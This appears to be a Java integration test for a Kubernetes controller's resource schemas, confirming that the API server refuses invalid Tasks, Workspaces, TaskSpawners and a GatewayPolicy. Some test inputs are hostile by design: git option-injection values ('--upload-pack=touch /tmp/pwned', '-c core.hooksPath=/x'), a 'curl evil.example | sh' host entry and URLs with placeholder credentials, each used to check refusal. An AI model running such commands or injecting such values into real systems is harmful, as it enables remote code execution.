package io.axon.controller.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.axon.api.v1alpha1.Task;
import io.axon.controller.Fixtures;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The shipped CRDs on a real API server: the examples are accepted, and invalid objects are refused
 * by the server with the schema's own message, before any controller sees them.
 */
class CrdValidationIT {
  static final String NS = "crd-validation";
  static ControlPlane plane;
  static KubernetesClient client;

  @BeforeAll
  static void startControlPlane() {
    plane = ControlPlane.builder().start();
    client = plane.client();
    plane.createNamespace(NS);
  }

  @AfterAll
  static void stopControlPlane() {
    if (plane != null) {
      plane.close();
    }
  }

  @Test
  void theCrdsAreEstablishedWithTheirShortNamesAndStatusSubresources() {
    var crds = client.apiextensions().v1().customResourceDefinitions();
    for (String name : List.of("tasks.axon.io", "workspaces.axon.io", "taskspawners.axon.io")) {
      var crd = crds.withName(name).get();
      assertThat(Crds.established(crd)).as(name + " Established").isTrue();
    }
    assertThat(crds.withName("tasks.axon.io").get().getSpec().getNames().getShortNames())
        .contains("axt");
    assertThat(
            crds.withName("tasks.axon.io")
                .get()
                .getSpec()
                .getVersions()
                .get(0)
                .getSubresources()
                .getStatus())
        .isNotNull();
  }

  @Test
  void theExamplesAreAcceptedAndDefaultsFilledIn() throws Exception {
    Path examples = RepoPaths.root().resolve("examples");
    List<Path> files;
    try (Stream<Path> listing = Files.list(examples)) {
      files = listing.filter(p -> p.toString().endsWith(".yaml")).sorted().toList();
    }
    assertThat(files).isNotEmpty();
    String ns = plane.createNamespace("crd-examples");
    for (Path file : files) {
      for (HasMetadata item : load(file)) {
        // Two examples share a name (hello-world, with and without a workspace).
        client.resource(item).inNamespace(ns).delete();
        client.resource(item).inNamespace(ns).create();
      }
    }
    assertThat(client.resources(Task.class).inNamespace(ns).withName("hello-world").get())
        .isNotNull();

    GenericKubernetesResource spawner = create(spawner("defaults", "{workspaceRef: {name: ws}}"));
    String pollInterval = spawner.get("spec", "pollInterval");
    String state = spawner.get("spec", "when", "githubIssues", "state");
    assertThat(pollInterval).isEqualTo("5m");
    assertThat(state).isEqualTo("open");
  }

  @Test
  void aTaskWithoutPromptIsRefused() {
    assertRefused(
        task("no-prompt", "type: claude-code\n  credentials: " + CREDENTIALS),
        "spec.prompt: Required value");
  }

  @Test
  void aTaskWithAnEmptyPromptIsRefused() {
    assertRefused(
        task("empty-prompt", "type: claude-code\n  prompt: \"\"\n  credentials: " + CREDENTIALS),
        "spec.prompt: Invalid value: \"\": spec.prompt in body should be at least 1 chars long");
  }

  @Test
  void aTaskWithAnUnknownCredentialsTypeIsRefused() {
    assertRefused(
        task(
            "bad-credentials",
            "type: claude-code\n  prompt: hi\n"
                + "  credentials: {type: token, secretRef: {name: s}}"),
        "spec.credentials.type: Unsupported value: \"token\": supported values: \"api-key\", \"none\", \"oauth\"");
  }

  @Test
  void aTaskWithAnInvalidAgentTypeIsRefused() {
    assertRefused(
        task("bad-type", "type: Claude_Code\n  prompt: hi\n  credentials: " + CREDENTIALS),
        "spec.type in body should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'");
  }

  @Test
  void aTaskNameLongerThan63CharactersIsRefused() {
    String name = "t".repeat(64);
    assertRefused(
        task(name, "type: claude-code\n  prompt: hi\n  credentials: " + CREDENTIALS),
        "Task names are at most 63 characters: the name labels the Task's Job and Pod");
    // 63 is fine.
    create(task("t".repeat(63), "type: claude-code\n  prompt: hi\n  credentials: " + CREDENTIALS));
  }

  @Test
  void aTaskSpecCannotChangeAfterCreation() {
    Task task = client.resource(Fixtures.task(NS, "immutable")).create();
    task.getSpec().setPrompt("Something else");

    assertThatThrownBy(() -> client.resource(task).update())
        .isInstanceOf(KubernetesClientException.class)
        .satisfies(e -> assertThat(((KubernetesClientException) e).getCode()).isEqualTo(422))
        .hasMessageContaining(
            "a Task's spec cannot change once created: delete the Task and create a new one");
    // Metadata may change: labels, annotations.
    Task current = client.resources(Task.class).inNamespace(NS).withName("immutable").get();
    current.getMetadata().setLabels(Map.of("team", "a"));
    assertThat(client.resource(current).update().getMetadata().getLabels())
        .containsEntry("team", "a");
  }

  @Test
  void aWorkspaceWithARepoThatIsNotAGitUrlIsRefused() {
    assertRefused(
        workspace("bad-repo", "repo: github.com/o/r"),
        "spec.repo in body should match '^(https?://|git://|ssh://|[A-Za-z0-9._-]+@[A-Za-z0-9.-]+:)[^\\s]+$'");
    assertRefused(
        workspace("repo-option", "repo: \"--upload-pack=touch /tmp/pwned\""), "spec.repo in body");
  }

  @Test
  void aWorkspaceRefThatLooksLikeAnOptionIsRefused() {
    assertRefused(
        workspace("dash-ref", "repo: https://github.com/o/r.git\n  ref: \"-c core.hooksPath=/x\""),
        "spec.ref in body should match '^[^-\\s][^\\s]*$'");
    create(workspace("good", "repo: git@github.com:o/r.git\n  ref: feature/x"));
  }

  @Test
  void aTaskSpawnerWithABadPollIntervalIsRefused() {
    assertRefused(
        spawner("bad-poll", "{workspaceRef: {name: ws}}", "pollInterval: 5 minutes"),
        "spec.pollInterval in body should match '^([0-9]+(\\.[0-9]+)?(ms|s|m|h))+$'");
    create(spawner("good-poll", "{workspaceRef: {name: ws}}", "pollInterval: 1m30s"));
  }

  @Test
  void aTaskSpawnerWithAnUnknownIssueStateIsRefused() {
    assertRefused(
        spawner("bad-state", "{workspaceRef: {name: ws}, state: opened}", ""),
        "spec.when.githubIssues.state: Unsupported value: \"opened\": supported values: \"all\", \"closed\", \"open\"");
  }

  @Test
  void aTaskSpawnerWithoutASourceIsRefused() {
    assertRefused(
        yamlSpawner("no-source", "when: {}"),
        "spec.when in body should have at least 1 properties");
  }

  @Test
  void aWorkspaceRepoWithCredentialsInItIsRefusedPointingToSecretRef() {
    String message = "spec.repo must not hold credentials";
    assertRefused(workspace("user-pass", "repo: https://me:hunter2@github.com/o/r.git"), message);
    assertRefused(workspace("token-user", "repo: https://ghp_abc123@github.com/o/r.git"), message);
    assertRefused(workspace("upper", "repo: HTTP://me:pw@git.example.com/o/r"), message);
    assertRefused(
        workspace("ssh-pass", "repo: ssh://git:hunter2@github.com/o/r.git"), "spec.secretRef");
    // The login of an SSH URL is no secret; an @ in the path is no userinfo.
    create(workspace("ssh-login", "repo: ssh://git@github.com/o/r.git"));
    create(workspace("scp-like", "repo: git@github.com:o/r.git"));
    create(workspace("at-in-path", "repo: https://git.example.com/o/r@v2.git"));
  }

  @Test
  void objectsWithoutASpecAreRefused() {
    assertRefused(specless("Task"), "a Task needs a spec");
    assertRefused(specless("Workspace"), "a Workspace needs a spec");
    assertRefused(specless("TaskSpawner"), "a TaskSpawner needs a spec");
  }

  static GenericKubernetesResource specless(String kind) {
    return ItFixtures.yaml(
        """
        apiVersion: axon.io/v1alpha1
        kind: %s
        metadata: {name: no-spec, namespace: %s}
        """
            .formatted(kind, NS));
  }

  @Test
  void promptsOfWhiteSpaceOrWithANulAreRefused() {
    assertRefused(
        task("blank", "type: claude-code\n  prompt: \" \\n\\t \"\n  credentials: " + CREDENTIALS),
        "the prompt is only white space");
    assertRefused(
        task("nul", "type: claude-code\n  prompt: \"fix\\0it\"\n  credentials: " + CREDENTIALS),
        "the prompt contains a NUL character");
    GenericKubernetesResource blankTemplate =
        yamlSpawner("blank-template", "when: {githubIssues: {workspaceRef: {name: ws}}}");
    put(blankTemplate, "   ", "spec", "taskTemplate", "promptTemplate");
    assertRefused(blankTemplate, "spec.taskTemplate.promptTemplate: Invalid value");
  }

  @Test
  void anActiveDeadlineBeyondSevenDaysIsRefused() {
    assertRefused(
        task(
            "forever",
            "type: claude-code\n  prompt: hi\n  activeDeadlineSeconds: 9223372036854775807\n"
                + "  credentials: "
                + CREDENTIALS),
        "spec.activeDeadlineSeconds: Invalid value");
    GenericKubernetesResource spawner =
        yamlSpawner("forever", "when: {githubIssues: {workspaceRef: {name: ws}}}");
    put(spawner, 604_801, "spec", "taskTemplate", "activeDeadlineSeconds");
    assertRefused(spawner, "should be less than or equal to 604800");
    create(
        task(
            "a-week",
            "type: claude-code\n  prompt: hi\n  activeDeadlineSeconds: 604800\n  credentials: "
                + CREDENTIALS));
  }

  @Test
  void aPollIntervalBelowThirtySecondsIsRefused() {
    for (String interval : List.of("0s", "1ms", "100ms", "1s", "29s", "29999ms")) {
      assertRefused(
          spawner(
              "fast-" + interval.replaceAll("[^0-9a-z]", ""),
              "{workspaceRef: {name: ws}}",
              "pollInterval: " + interval),
          "pollInterval must be at least 30s (default 5m): every poll is a request to the"
              + " source's API; to poll at once, set the annotation axon.io/poll-now to a new"
              + " value");
    }
    create(spawner("thirty-seconds", "{workspaceRef: {name: ws}}", "pollInterval: 30s"));
  }

  @Test
  void aGatewayPolicyEntryThatIsNoHostRuleIsRefused() {
    assertRefused(
        ItFixtures.yaml(
            """
            apiVersion: axon.io/v1alpha1
            kind: GatewayPolicy
            metadata: {name: bad, namespace: %s}
            spec:
              allowHosts: ["curl evil.example | sh"]
            """
                .formatted(NS)),
        "spec.allowHosts[0]");
  }

  // ---- helpers --------------------------------------------------------------------------------

  static final String CREDENTIALS = "{type: oauth, secretRef: {name: claude-oauth}}";

  static GenericKubernetesResource task(String name, String spec) {
    return ItFixtures.yaml(
        """
        apiVersion: axon.io/v1alpha1
        kind: Task
        metadata: {name: %s, namespace: %s}
        spec:
          %s
        """
            .formatted(name, NS, spec));
  }

  static GenericKubernetesResource workspace(String name, String spec) {
    return ItFixtures.yaml(
        """
        apiVersion: axon.io/v1alpha1
        kind: Workspace
        metadata: {name: %s, namespace: %s}
        spec:
          %s
        """
            .formatted(name, NS, spec));
  }

  static GenericKubernetesResource spawner(String name, String githubIssues) {
    return spawner(name, githubIssues, "");
  }

  static GenericKubernetesResource spawner(String name, String githubIssues, String extra) {
    return yamlSpawner(name, "when: {githubIssues: " + githubIssues + "}\n  " + extra);
  }

  static GenericKubernetesResource yamlSpawner(String name, String when) {
    return ItFixtures.yaml(
        """
        apiVersion: axon.io/v1alpha1
        kind: TaskSpawner
        metadata: {name: %s, namespace: %s}
        spec:
          taskTemplate:
            type: claude-code
            credentials: %s
            promptTemplate: "Fix: {{.Title}}"
          %s
        """
            .formatted(name, NS, CREDENTIALS, when));
  }

  /** Sets the value at a path of an object read from YAML. */
  @SuppressWarnings("unchecked")
  static void put(GenericKubernetesResource object, Object value, String... path) {
    Map<String, Object> map = object.getAdditionalProperties();
    for (int i = 0; i < path.length - 1; i++) {
      map = (Map<String, Object>) map.get(path[i]);
    }
    map.put(path[path.length - 1], value);
  }

  static List<HasMetadata> load(Path file) throws java.io.IOException {
    try (var in = Files.newInputStream(file)) {
      return client.load(in).items();
    }
  }

  static GenericKubernetesResource create(GenericKubernetesResource object) {
    return client.resource(object).create();
  }

  /** The server answers 422 Unprocessable Entity, and its message says what is wrong. */
  static void assertRefused(GenericKubernetesResource object, String serverMessage) {
    assertThatThrownBy(() -> create(object))
        .isInstanceOfSatisfying(
            KubernetesClientException.class,
            e -> {
              assertThat(e.getCode()).isEqualTo(422);
              assertThat(e.getStatus().getMessage()).contains(serverMessage);
            });
    assertThat(
            client
                .genericKubernetesResources(object.getApiVersion(), object.getKind())
                .inNamespace(NS)
                .withName(object.getMetadata().getName())
                .get())
        .as("nothing was stored")
        .isNull();
  }
}
